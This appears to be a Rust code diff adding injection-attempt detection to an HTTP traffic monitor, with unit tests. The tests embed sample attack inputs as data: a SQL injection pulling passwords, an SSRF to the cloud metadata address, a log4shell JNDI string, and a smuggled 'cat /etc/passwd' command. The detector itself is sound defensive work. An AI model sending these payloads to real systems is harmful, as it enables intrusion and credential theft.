@@ -143,3 +143,184 @@ pub fn data_alerts(obs: &Observation, key: &EndpointKey, findings: &[Finding]) -
     }
     out
 }
+
+/// Most input values inspected per request.
+const MAX_INPUTS: usize = 256;
+
+/// Every input of a request worth inspecting for injection: (location, raw value).
+fn request_inputs(obs: &Observation) -> Vec<(String, String)> {
+    let mut out: Vec<(String, String)> = Vec::new();
+    for (i, seg) in obs.path().split('/').filter(|s| !s.is_empty()).enumerate() {
+        out.push((format!("request.path[{i}]"), seg.to_string()));
+    }
+    if let Some(q) = obs.query() {
+        for pair in q.split('&').filter(|p| !p.is_empty()) {
+            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
+            out.push((format!("request.query.{}", crate::params::form_decode(name)), value.to_string()));
+        }
+    }
+    for (name, value) in &obs.request_headers {
+        // Headers applications log or reflect; any header for JNDI-style payloads (log4shell).
+        if matches!(name.as_str(), "user-agent" | "referer" | "x-forwarded-for" | "cookie" | "x-api-version")
+            || value.contains("${")
+        {
+            out.push((format!("request.header.{name}"), value.clone()));
+        }
+    }
+    let ct = obs.request_header("content-type").unwrap_or_default().to_ascii_lowercase();
+    if ct.starts_with("application/x-www-form-urlencoded") {
+        let body = String::from_utf8_lossy(&obs.request_body);
+        for pair in body.split('&').filter(|p| !p.is_empty()) {
+            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
+            out.push((format!("request.form.{}", crate::params::form_decode(name)), value.to_string()));
+        }
+    } else if let Ok(v) = serde_json::from_slice::<serde_json::Value>(&obs.request_body) {
+        let mut stack = vec![(String::from("request.json"), &v, 0usize)];
+        while let Some((path, value, depth)) = stack.pop() {
+            if out.len() >= MAX_INPUTS || depth > 16 {
+                break;
+            }
+            match value {
+                serde_json::Value::Object(m) => {
+                    stack.extend(m.iter().map(|(k, v)| (format!("{path}.{k}"), v, depth + 1)))
+                }
+                serde_json::Value::Array(a) => {
+                    stack.extend(a.iter().take(100).map(|v| (format!("{path}[]"), v, depth + 1)))
+                }
+                serde_json::Value::String(s) => out.push((path, s.clone())),
+                _ => {}
+            }
+        }
+    }
+    out.truncate(MAX_INPUTS);
+    out
+}
+
+/// `injection_attempt` alerts for one request, one per kind.
+pub fn injection_alerts(obs: &Observation, key: &EndpointKey) -> Vec<Alert> {
+    let mut by_kind: BTreeMap<crate::injection::Injection, Vec<crate::injection::Attempt>> = BTreeMap::new();
+    for (location, value) in request_inputs(obs) {
+        // URLs in headers (Referer) and paths are normal; SSRF means a URL the app is asked to fetch.
+        let parameter = location.starts_with("request.query")
+            || location.starts_with("request.form")
+            || location.starts_with("request.json");
+        for attempt in crate::injection::inspect(&location, &value) {
+            if attempt.kind != crate::injection::Injection::Ssrf || parameter {
+                by_kind.entry(attempt.kind).or_default().push(attempt);
+            }
+        }
+    }
+    let status = obs.response.as_ref().map_or("no response".to_string(), |r| format!("status {}", r.status));
+    by_kind
+        .into_iter()
+        .map(|(kind, attempts)| {
+            let mut places: Vec<String> = attempts
+                .iter()
+                .map(|a| format!("{} (matched `{}`)", a.location, a.signature.escape_default()))
+                .collect();
+            places.dedup();
+            places.truncate(4);
+            draft(
+                obs,
+                key,
+                "injection_attempt",
+                kind.as_str(),
+                Severity::High,
+                format!("{} attempt on {} {} on {}", kind.as_str().replace('_', " "), key.method, key.path, key.host),
+                format!("{}; {status}", places.join("; ")),
+            )
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{Catalog, ObservedResponse, TemplateConfig};
+
+    fn obs(method: &str, target: &str, headers: &[(&str, &str)], body: &str, encrypted: bool) -> Observation {
+        Observation {
+            ts: 5,
+            client: std::net::IpAddr::from([10, 0, 0, 7]),
+            server: std::net::SocketAddr::from(([10, 0, 0, 1], 80)),
+            host: Some("app.test".into()),
+            method: method.into(),
+            target: target.into(),
+            request_headers: headers.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect(),
+            request_body: body.as_bytes().to_vec(),
+            request_body_len: body.len() as u64,
+            response: Some(ObservedResponse {
+                status: 200,
+                headers: vec![],
+                body: vec![],
+                body_len: 0,
+                latency_micros: 1,
+            }),
+            encrypted,
+        }
+    }
+
+    fn kinds(alerts: &[Alert]) -> Vec<(String, String)> {
+        let mut k: Vec<(String, String)> =
+            alerts.iter().map(|a| (a.kind.clone(), a.subtype.clone().unwrap_or_default())).collect();
+        k.sort();
+        k
+    }
+
+    #[test]
+    fn cleartext_versus_encrypted_credentials() {
+        let mut c = Catalog::new(TemplateConfig::default());
+        let o = obs(
+            "POST",
+            "/login",
+            &[("content-type", "application/json")],
+            "{\"user\":\"a\",\"password\":\"pw12345\"}",
+            false,
+        );
+        let seen = c.observe(&o);
+        assert_eq!(
+            kinds(&data_alerts(&o, &seen.key, &seen.findings)),
+            vec![("cleartext_credentials".into(), "password".into())]
+        );
+        let tls = Observation { encrypted: true, ..o };
+        let seen = c.observe(&tls);
+        assert!(data_alerts(&tls, &seen.key, &seen.findings).is_empty(), "no cleartext alert for encrypted traffic");
+    }
+
+    #[test]
+    fn injections_by_input_kind_and_none_for_benign_requests() {
+        let key = EndpointKey { host: "app.test".into(), method: "GET".into(), path: "/search".into() };
+        let attack = obs(
+            "GET",
+            "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--&next=http://169.254.169.254/",
+            &[("user-agent", "${jndi:ldap://x/a}")],
+            "",
+            false,
+        );
+        assert_eq!(
+            kinds(&injection_alerts(&attack, &key)),
+            vec![
+                ("injection_attempt".into(), "sql_injection".into()),
+                ("injection_attempt".into(), "ssrf".into()),
+                ("injection_attempt".into(), "template_injection".into())
+            ]
+        );
+        let json = obs(
+            "POST",
+            "/ping",
+            &[("content-type", "application/json")],
+            "{\"host\":\"127.0.0.1; cat /etc/passwd\"}",
+            false,
+        );
+        let got = kinds(&injection_alerts(&json, &key));
+        assert!(got.contains(&("injection_attempt".into(), "command_injection".into())), "{got:?}");
+        let benign = obs(
+            "GET",
+            "/search?q=O%27Brien&page=2",
+            &[("referer", "http://192.168.1.10/home"), ("user-agent", "Mozilla/5.0")],
+            "",
+            false,
+        );
+        assert!(injection_alerts(&benign, &key).is_empty());
+    }
+}
